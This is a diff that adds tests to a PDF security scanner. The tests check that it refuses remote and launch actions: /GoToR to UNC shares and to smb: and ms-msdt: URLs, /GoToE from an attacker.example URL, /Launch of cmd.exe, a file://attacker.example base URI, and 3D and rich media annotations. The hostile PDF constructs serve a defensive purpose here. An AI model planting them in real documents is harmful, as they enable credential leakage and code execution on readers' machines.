@@ -240,3 +240,123 @@ describe('objects a reader finds only when it rebuilds the file', () => {
     expect(codes(await inspect(rebuiltFromStreamDataPdf('/Root 1 0 R'), 'pdf'))).toEqual([]);
   });
 });
+
+describe('remote and indirect actions, class by class', () => {
+  const annotated = (annot: string, more: PdfObj[] = []) =>
+    buildPdf([
+      ...pageObjects('', '/Annots [6 0 R]'),
+      { num: 6, body: `<< /Type /Annot ${annot} /Rect [0 0 9 9] >>` },
+      ...more,
+    ]);
+
+  it.each([
+    ['/GoToR into a share', linkAnnotations(`<< /S /GoToR /F ${UNC} /D [0 /Fit] >>`), 'PDF_ACTION'],
+    [
+      '/GoToR by a /UF',
+      linkAnnotations(`<< /S /GoToR /F << /Type /Filespec /F (a.pdf) /UF ${UNC} >> >>`),
+      'PDF_ACTION',
+    ],
+    [
+      '/GoToR by an smb: URL specification',
+      linkAnnotations('<< /S /GoToR /F << /FS /URL /F (smb://h/s/x.pdf) >> >>'),
+      'PDF_ACTION',
+    ],
+    [
+      '/GoToR by an ms-msdt: URL specification',
+      linkAnnotations('<< /S /GoToR /F << /FS /URL /F (ms-msdt:/id x) >> >>'),
+      'PDF_ACTION',
+    ],
+    [
+      '/GoToE from a URL',
+      linkAnnotations('<< /S /GoToE /F (http://attacker.example/x.pdf) /T << /R /C /N (a) >> >>'),
+      'PDF_ACTION',
+    ],
+    ['/Thread into a share', linkAnnotations(`<< /S /Thread /F ${UNC} /D 0 >>`), 'PDF_ACTION'],
+    [
+      '/Launch with a /Win dictionary',
+      linkAnnotations('<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>'),
+      'PDF_SCRIPT',
+    ],
+    ['/Launch with /Mac and /Unix', linkAnnotations('<< /S /Launch /Mac (x.app) /Unix (xterm) >>'), 'PDF_SCRIPT'],
+    [
+      '/URI relative to a /Base that is a share',
+      [
+        { num: 1, body: `<< /Type /Catalog /Pages 2 0 R /URI << /Base ${UNC} >> >>` },
+        ...linkAnnotations('<< /S /URI /URI (x.pdf) >>').slice(1),
+      ],
+      'PDF_ACTION',
+    ],
+    [
+      '/URI relative to a /Base by reference',
+      [
+        { num: 1, body: '<< /Type /Catalog /Pages 2 0 R /URI 9 0 R >>' },
+        ...linkAnnotations('<< /S /URI /URI (x.pdf) >>').slice(1),
+        { num: 9, body: '<< /Base (file://attacker.example/share/) >>' },
+      ],
+      'PDF_ACTION',
+    ],
+    // A portfolio's navigator is a Flash program Acrobat 9 and X run to show it.
+    ['a portfolio navigator', pageObjects('/Collection << /View /C /Navigator << /Layout /Tile >> >>'), 'PDF_SCRIPT'],
+  ])('refuses %s', async (_, objects, code) => {
+    expect(codes(await inspect(buildPdf(objects), 'pdf'))).toEqual([code]);
+  });
+
+  it('refuses 3D and rich media annotations (a 3D stream carries JavaScript), and media that plays', async () => {
+    const model: PdfObj = { num: 7, body: '/Type /3D /Subtype /U3D', stream: Buffer.from('U3D\0') };
+    expect(codes(await inspect(annotated('/Subtype /3D /3DD 7 0 R', [model]), 'pdf'))).toEqual(['PDF_SCRIPT']);
+    expect(codes(await inspect(annotated('/Subtype /RichMedia'), 'pdf'))).toEqual(['PDF_SCRIPT']);
+    expect(codes(await inspect(annotated(`/Subtype /Movie /Movie << /F ${UNC} >>`), 'pdf'))).toEqual(['PDF_ACTION']);
+    expect(codes(await inspect(annotated(`/Subtype /Screen /A << /S /Rendition /OP 0 >>`), 'pdf'))).toEqual([
+      'PDF_ACTION',
+    ]);
+  });
+
+  it('refuses a portfolio’s files as attachments', async () => {
+    const pdf = buildPdf([
+      ...pageObjects('/Collection << /View /D >> /Names << /EmbeddedFiles << /Names [(a.pdf) 6 0 R] >> >>'),
+      { num: 6, body: '<< /Type /Filespec /F (a.pdf) /EF << /F 7 0 R >> >>' },
+      { num: 7, body: '/Type /EmbeddedFile', stream: Buffer.from('%PDF-1.7\n') },
+    ]);
+    expect(codes(await inspect(pdf, 'pdf'))).toEqual(['PDF_ATTACHMENT']);
+  });
+
+  it.each([
+    ['/SetOCGState', '<< /S /SetOCGState /State [/OFF 9 0 R] >>'],
+    ['/Hide', '<< /S /Hide /T (note) /H true >>'],
+    ['/Trans', '<< /S /Trans /Trans << /S /Dissolve >> >>'],
+    ['/Named', '<< /S /Named /N /NextPage >>'],
+  ])('keeps %s on a click VALID: it changes only what the page shows', async (_, action) => {
+    expect(await findings(buildPdf(linkAnnotations(action)))).toEqual({ codes: [], features: [], warnings: [] });
+  });
+
+  it('keeps a page transition and an empty portfolio view VALID; a web /GoToR is a warning', async () => {
+    expect(codes(await inspect(buildPdf(pageObjects('', '/Trans << /S /Wipe /D 1 >> /Dur 3')), 'pdf'))).toEqual([]);
+    expect(codes(await inspect(buildPdf(pageObjects('/Collection << /Type /Collection /View /D >>')), 'pdf'))).toEqual(
+      [],
+    );
+    const web = linkAnnotations('<< /S /GoToR /F (https://www.miit.gov.cn/a.pdf) /D [0 /Fit] >>');
+    expect(await findings(buildPdf(web))).toEqual({
+      codes: [],
+      features: [],
+      warnings: ['https://www.miit.gov.cn/a.pdf'],
+    });
+  });
+
+  // An OPI dictionary names the high-resolution original of a proxy image for a prepress server to
+  // swap in when it separates the pages: pdf.js, MuPDF and Acrobat show the proxy and never open
+  // the file it names (Acrobat only writes OPI comments into PostScript it prints). No reader acts
+  // on it, so it stays VALID, whatever it names.
+  it('keeps an image’s /OPI dictionary VALID, even naming a share', async () => {
+    const image = '/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8';
+    for (const version of [
+      `/2.0 << /Type /OPI /Version 2.0 /F ${UNC} /Inks /full_color >>`,
+      `/1.3 << /Type /OPI /Version 1.3 /F (art.tif) /Size [9 9] /CropRect [0 0 9 9] /Position [0 0 9 0 9 9 0 9] >>`,
+    ]) {
+      const pdf = buildPdf([
+        ...pageObjects('', '/Resources << /XObject << /Im1 6 0 R >> >>'),
+        { num: 6, body: `${image} /OPI << ${version} >>`, stream: Buffer.alloc(1) },
+      ]);
+      expect(await findings(pdf)).toEqual({ codes: [], features: [], warnings: [] });
+    }
+  });
+});
